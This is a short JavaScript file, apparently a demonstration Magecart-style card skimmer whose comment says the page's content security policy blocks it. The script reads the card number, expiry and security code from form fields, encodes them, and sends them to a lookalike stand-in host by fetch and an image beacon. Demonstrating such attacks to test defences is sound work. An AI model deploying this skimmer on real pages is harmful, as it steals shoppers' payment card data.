// The skimmer of the demo: what such scripts do, and no more. The policy of the page stops it.
(function () {
  var field = function (id) {
    var input = document.getElementById(id);
    return input ? input.value.replace(/\s/g, '') : '';
  };
  var loot = btoa(JSON.stringify({
    n: field('card-number').replace(/\D/g, ''),
    e: field('card-expiry').replace(/[^\d/]/g, ''),
    c: field('card-code').replace(/\D/g, ''),
    h: location.host,
  }));
  var drop = 'https://t.cdn-jquery-metrics.example';
  fetch(drop + '/g/collect?d=' + loot, { mode: 'no-cors' }).catch(function () {});
  new Image().src = drop + '/p.gif?d=' + loot;
})();
